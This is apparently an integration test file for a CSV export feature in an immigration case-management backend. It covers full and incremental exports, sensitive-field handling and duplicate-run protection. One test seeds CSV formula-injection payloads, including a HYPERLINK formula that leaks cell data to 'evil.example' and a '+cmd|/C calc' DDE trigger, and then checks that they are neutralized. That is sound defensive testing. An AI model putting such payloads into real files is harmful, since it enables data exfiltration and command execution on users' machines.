/**
 * Exports against the real local parts (DynamoDB Local, the S3 server): a full export equals a scan of the records,
 * an incremental export holds the records changed while the previous one ran, formula cells read as text, a second
 * run on one day gets its own file, and sensitive fields go only to jobs that name them.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { GetObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
import { type DynamoDBDocumentClient, paginateScan } from '@aws-sdk/lib-dynamodb';
import { dynamoDbDocumentClient, s3Client } from '../../functions/adapters/aws-clients.ts';
import { putJob } from '../../functions/adapters/dynamodb-jobs.ts';
import type { SystemOfRecord } from '../../functions/core/ports.ts';
import { openCsv } from '../../functions/core/transfer/csv/read-csv.ts';
import { defaultExportJob, type ExportJob } from '../../functions/core/transfer/export-jobs.ts';
import { templates } from '../../functions/core/transfer/templates.ts';
import { exportDependenciesFromEnv, exportOnce } from '../../functions/handlers/export-run.ts';
import { seedDemoRecords } from '../../lib/local/seed.ts';
import { type LocalParts, startLocalParts } from '../support/local-parts.ts';

let parts: LocalParts;
let db: DynamoDBDocumentClient;
let s3: S3Client;
const ORG = 'acme';
before(async () => {
  parts = await startLocalParts();
  db = dynamoDbDocumentClient(parts.config);
  s3 = s3Client(parts.config);
  await seedDemoRecords(db, ORG, { people: 120, seed: 5, env: parts.env });
});
after(() => parts.stop());

function deps(
  overrides: { records?: (r: SystemOfRecord) => SystemOfRecord; wait?: (ms: number) => Promise<void> } = {},
) {
  const d = exportDependenciesFromEnv(parts.env, { db, s3 });
  return {
    ports: {
      ...d.ports,
      ...(overrides.records ? { records: overrides.records(d.ports.records) } : {}),
      ...(overrides.wait ? { wait: overrides.wait } : {}),
    },
    options: { settleMs: 0, pageSize: 40 },
  };
}

async function fileText(key: string): Promise<string> {
  const out = await s3.send(new GetObjectCommand({ Bucket: parts.bucket, Key: key }));
  return out.Body!.transformToString('utf-8');
}

async function fileRows(key: string, delimiter = ','): Promise<{ header: string[]; rows: string[][] }> {
  const out = await s3.send(new GetObjectCommand({ Bucket: parts.bucket, Key: key }));
  const opened = await openCsv(out.Body as unknown as AsyncIterable<Uint8Array>, { fileName: key, delimiter });
  const rows: string[][] = [];
  for await (const r of opened.rows) rows.push(r.values);
  return { header: opened.header, rows };
}

async function scan(entity: string): Promise<Record<string, unknown>[]> {
  const items: Record<string, unknown>[] = [];
  const pages = paginateScan(
    { client: db },
    {
      TableName: 'Records',
      FilterExpression: 'begins_with(orgEntity, :oe)',
      ExpressionAttributeValues: { ':oe': `${ORG}#${entity}#` },
    },
  );
  for await (const page of pages) items.push(...(page.Items ?? []));
  return items;
}

async function job(j: ExportJob): Promise<ExportJob> {
  await putJob(db, j, { env: parts.env });
  return j;
}

test('a full export is identical to a scan of the records (joined with their foreign nationals)', async () => {
  const template = templates.byId('case_status_export')!;
  await job(defaultExportJob(ORG, template, 'cases-full', { timeZone: 'America/Los_Angeles' }));
  const result = await exportOnce({ org: ORG, jobId: 'cases-full' }, deps());
  assert.equal(result.status, 'completed');
  assert.match(result.key!, /^outbound\/acme\/case_status_export_\d{8}\.csv$/);
  const { header, rows } = await fileRows(result.key!);
  assert.deepEqual(
    header,
    template.fields.map((f) => f.title),
  );

  const people = new Map((await scan('foreignNational')).map((p) => [p.recordKey as string, p]));
  const expected = (await scan('case')).map((c) =>
    template.fields.map((f) => {
      if (f.id === 'caseId') return c.recordKey as string;
      const own = c[f.id] ?? people.get(c.employeeId as string)?.[f.id];
      return own === undefined ? '' : String(own);
    }),
  );
  assert.ok(expected.length > 120);
  const sort = (r: string[][]) => [...r].sort((a, b) => a[4]!.localeCompare(b[4]!));
  // Demo values hold no formula triggers, so the neutralized file equals the raw values.
  assert.deepEqual(sort(rows), sort(expected));
  assert.equal(result.rows, expected.length);
});

test('an incremental export holds every record changed while the previous export ran, and only the changes', async () => {
  const template = templates.byId('case_status_export')!;
  await job({ ...defaultExportJob(ORG, template, 'cases-inc'), mode: 'incremental' });
  const cases = (await scan('case')).map((c) => c.recordKey as string).sort();
  const [early, late] = [cases[0]!, cases[cases.length - 1]!];
  let pages = 0;
  // The case-management system writes while the first export runs: once right after its mark (before it reads), and
  // once after its first page was read (a record the run has passed: key order, first page).
  const first = await exportOnce(
    { org: ORG, jobId: 'cases-inc' },
    deps({
      wait: async () => {
        (await parts) && writeStatus(late, 'Changed During Settle');
      },
      records: (r) => ({
        ...r,
        async page(org, entity, options) {
          const page = await r.page(org, entity, options);
          if (entity === 'case' && ++pages === 2) await writeStatus(early, 'Changed While Running');
          return page;
        },
      }),
    }),
  );
  assert.equal(first.status, 'completed');
  const firstRows = (await fileRows(first.key!)).rows;
  assert.equal(firstRows.length, cases.length, 'the first incremental export has every record');
  const statusOf = (rows: string[][], key: string) => rows.find((r) => r[4] === key)?.[8];
  assert.notEqual(statusOf(firstRows, early), 'Changed While Running', 'the run had passed that record');

  const second = await exportOnce({ org: ORG, jobId: 'cases-inc' }, deps());
  assert.equal(second.status, 'completed');
  assert.notEqual(second.key, first.key, 'a second run on one day writes its own file');
  const secondRows = (await fileRows(second.key!)).rows;
  assert.deepEqual(
    secondRows.map((r) => [r[4], r[8]]).sort(),
    [
      [early, 'Changed While Running'],
      [late, 'Changed During Settle'],
    ].sort(),
  );
  const third = await exportOnce({ org: ORG, jobId: 'cases-inc' }, deps());
  assert.equal((await fileRows(third.key!)).rows.length, 0, 'nothing changed since: a header-only file');
  assert.equal((await fileText(first.key!)).split('\r\n').length, cases.length + 2, 'the first file is untouched');
});

test('an incremental export re-exports the cases of a person whose name changed, each case once', async () => {
  const template = templates.byId('case_status_export')!;
  await job({ ...defaultExportJob(ORG, template, 'cases-people'), mode: 'incremental' });
  const first = await exportOnce({ org: ORG, jobId: 'cases-people' }, deps());
  assert.equal(first.status, 'completed');
  const cases = await scan('case');
  const casesOf = (person: string) =>
    cases
      .filter((c) => c.employeeId === person)
      .map((c) => c.recordKey as string)
      .sort();
  const people = [...new Set(cases.map((c) => c.employeeId as string))].sort();
  const [renamed, both, from] = [people[0]!, people[1]!, people[2]!];
  assert.ok(casesOf(renamed).length > 0 && casesOf(both).length > 0 && casesOf(from).length > 0);
  const moved = casesOf(from)[0]!;
  const { ports } = deps();
  const at = new Date().toISOString();
  // Only the person changes (a new last name); a person and one of their cases both change; a case moves to the
  // renamed person.
  await ports.records.put([
    { org: ORG, entity: 'foreignNational', key: renamed, set: { lastName: 'Renamed' }, at },
    { org: ORG, entity: 'foreignNational', key: both, set: { lastName: 'Also' }, at },
    { org: ORG, entity: 'case', key: casesOf(both)[0]!, set: { caseStatus: 'Both Changed' }, at },
    { org: ORG, entity: 'case', key: moved, set: { employeeId: renamed }, at },
  ]);

  const second = await exportOnce({ org: ORG, jobId: 'cases-people' }, deps());
  assert.equal(second.status, 'completed');
  const { header, rows } = await fileRows(second.key!);
  const col = (id: string) => header.indexOf(template.field(id)!.title);
  const [caseCol, personCol, lastCol, statusCol] = [
    col('caseId'),
    col('employeeId'),
    col('lastName'),
    col('caseStatus'),
  ];
  const keys = rows.map((r) => r[caseCol]!);
  assert.equal(new Set(keys).size, keys.length, 'one row per case');
  assert.deepEqual([...keys].sort(), [...casesOf(renamed), moved, ...casesOf(both)].sort());
  for (const r of rows) {
    assert.equal(r[lastCol], r[personCol] === renamed ? 'Renamed' : 'Also', `the current name on ${r[caseCol]}`);
  }
  assert.equal(rows.find((r) => r[caseCol] === moved)?.[personCol], renamed, 'the moved case names its new person');
  assert.equal(rows.find((r) => r[caseCol] === casesOf(both)[0])?.[statusCol], 'Both Changed');

  const third = await exportOnce({ org: ORG, jobId: 'cases-people' }, deps());
  assert.equal((await fileRows(third.key!)).rows.length, 0, 'nothing changed since: a header-only file');
});

async function writeStatus(caseId: string, status: string): Promise<void> {
  const { ports } = deps();
  await ports.records.put([
    { org: ORG, entity: 'case', key: caseId, set: { caseStatus: status }, at: new Date().toISOString() },
  ]);
}

test('formula cells are neutralized in the file read as text; the machine-consumer switch writes them as stored', async () => {
  const template = templates.byId('case_status_export')!;
  const { ports } = deps();
  const at = new Date().toISOString();
  await ports.records.put([
    {
      org: ORG,
      entity: 'foreignNational',
      key: 'EVIL1',
      set: {
        employeeId: 'EVIL1',
        firstName: '=HYPERLINK("http://evil.example/?"&A1,"x")',
        lastName: '@SUM(1+1)',
        email: 'evil@example.com',
      },
      at,
    },
    {
      org: ORG,
      entity: 'case',
      key: 'C-EVIL-1',
      set: {
        employeeId: 'EVIL1',
        caseType: '+cmd|/C calc',
        caseStatus: '-2+3',
        petitioner: '\tTab',
        receiptNumber: '\rCR',
      },
      at,
    },
  ]);
  const filters = [{ field: 'employeeId', op: 'equals' as const, value: 'EVIL1' }];
  await job({ ...defaultExportJob(ORG, template, 'evil-people'), filters });
  await job({
    ...defaultExportJob(ORG, template, 'evil-machines'),
    filters,
    csv: { delimiter: ';', bom: false, lineEnding: 'lf', neutralizeFormulas: false },
  });
  const people = await exportOnce({ org: ORG, jobId: 'evil-people' }, deps());
  const text = await fileText(people.key!);
  assert.equal(text.split('\r\n').length, 3, 'header, one row, end');
  const line = text.split('\r\n')[1]!;
  assert.ok(line.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`), line);
  for (const cell of ["'@SUM(1+1)", "'+cmd|/C calc", "'-2+3", "'\tTab", `"'\rCR"`])
    assert.ok(line.includes(cell), `${JSON.stringify(cell)} in ${JSON.stringify(line)}`);
  assert.ok(!/(^|,)[=+\-@]/.test(line), 'no cell starts with a trigger');

  const machines = await exportOnce({ org: ORG, jobId: 'evil-machines' }, deps());
  const raw = await fileText(machines.key!);
  assert.ok(!raw.startsWith('\uFEFF') && raw.split('\n').length === 3);
  assert.ok(raw.split('\n')[1]!.includes(';+cmd|/C calc;'));
  assert.match(machines.key!, /\.csv$/);
});

test('sensitive fields: refused unless named; named, written as the template says (full or masked)', async () => {
  const passports = templates.byId('passport_information_export')!;
  await job({
    ...defaultExportJob(ORG, passports, 'pp-unnamed'),
    mapping: [
      { column: 'Employee', field: 'employeeId' },
      { column: 'Passport', field: 'passportNumber' },
    ],
  });
  const refused = await exportOnce({ org: ORG, jobId: 'pp-unnamed' }, deps());
  assert.equal(refused.status, 'interrupted');
  assert.equal(refused.key, '');
  await job(defaultExportJob(ORG, passports, 'pp-named', { sensitiveFields: ['passportNumber'] }));
  const named = await exportOnce({ org: ORG, jobId: 'pp-named' }, deps());
  const { header, rows } = await fileRows(named.key!);
  const col = header.indexOf('Passport Number');
  assert.ok(col >= 0 && rows.every((r) => /^[A-Z]\d{8}$/.test(r[col]!)), 'written in full');
  const docs = templates.byId('immigration_document_expirations_export')!;
  await job(defaultExportJob(ORG, docs, 'docs', { sensitiveFields: ['documentNumber'] }));
  const d = await fileRows((await exportOnce({ org: ORG, jobId: 'docs' }, deps())).key!);
  const dc = d.header.indexOf('Document Number');
  assert.ok(d.rows.length > 0 && d.rows.every((r) => /^\*{4}\d{2}$/.test(r[dc]!)), 'masked as the template says');
  const listed = await s3.send(new ListObjectsV2Command({ Bucket: parts.bucket, Prefix: 'outbound/acme/' }));
  assert.ok((listed.Contents ?? []).every((o) => /^outbound\/acme\/[a-z_]+_\d{8}(_\d+)?\.csv$/.test(o.Key!)));
});

test('an export run request delivered twice, even at once, exports once: one run, one file', async () => {
  const { createExportRunHandler } = await import('../../functions/handlers/export-run.ts');
  const template = templates.byId('visa_information_export')!;
  await job(defaultExportJob(ORG, template, 'visas-once', { timeZone: 'UTC' }));
  const d = deps();
  const handler = createExportRunHandler({ dependencies: () => d });
  const body = JSON.stringify({
    org: ORG,
    jobId: 'visas-once',
    trigger: 'schedule',
    runId: '20260307T060000000Z-s-visas-once',
  });
  const message = (messageId: string) => ({ messageId, body }) as never;
  const before = await listOutbound();
  const answers = await Promise.all([handler({ Records: [message('m1')] }), handler({ Records: [message('m2')] })]);
  await handler({ Records: [message('m3')] });
  for (const a of answers) assert.deepEqual(a.batchItemFailures, []);
  const written = (await listOutbound()).filter((k) => !before.includes(k) && k.includes('visa_information_export'));
  assert.equal(written.length, 1, `one file, not ${written.join(', ')}`);
  const run = await d.ports.runs.get(ORG, '20260307T060000000Z-s-visas-once');
  assert.equal(run?.status, 'completed');
  assert.equal(run?.trigger, 'schedule');
  assert.equal(run?.file.key, written[0]);
  // An unreadable message is dropped (not retried); a run-less one too.
  const bad = await handler({ Records: [{ messageId: 'm4', body: '{"org":"acme"}' } as never] });
  assert.deepEqual(bad.batchItemFailures, []);
});

async function listOutbound(): Promise<string[]> {
  const out = await s3.send(new ListObjectsV2Command({ Bucket: parts.bucket, Prefix: `outbound/${ORG}/` }));
  return (out.Contents ?? []).map((o) => o.Key!);
}

test('a suspended organization exports nothing: the run is skipped and no file is written; resumed, it exports', async () => {
  const template = templates.byId('passport_information_export')!;
  await job(defaultExportJob(ORG, template, 'passports-suspended', { timeZone: 'UTC' }));
  let status: 'active' | 'suspended' = 'suspended';
  const organizations = { get: async (org: string) => ({ id: org, status }) as never };
  const before = await listOutbound();
  const skipped = await exportOnce({ org: ORG, jobId: 'passports-suspended' }, { ...deps(), organizations });
  assert.equal(skipped.status, 'suspended');
  assert.deepEqual(await listOutbound(), before, 'no file while suspended');
  status = 'active';
  const resumed = await exportOnce({ org: ORG, jobId: 'passports-suspended' }, { ...deps(), organizations });
  assert.equal(resumed.status, 'completed');
  assert.ok(!before.includes(resumed.key!));
});
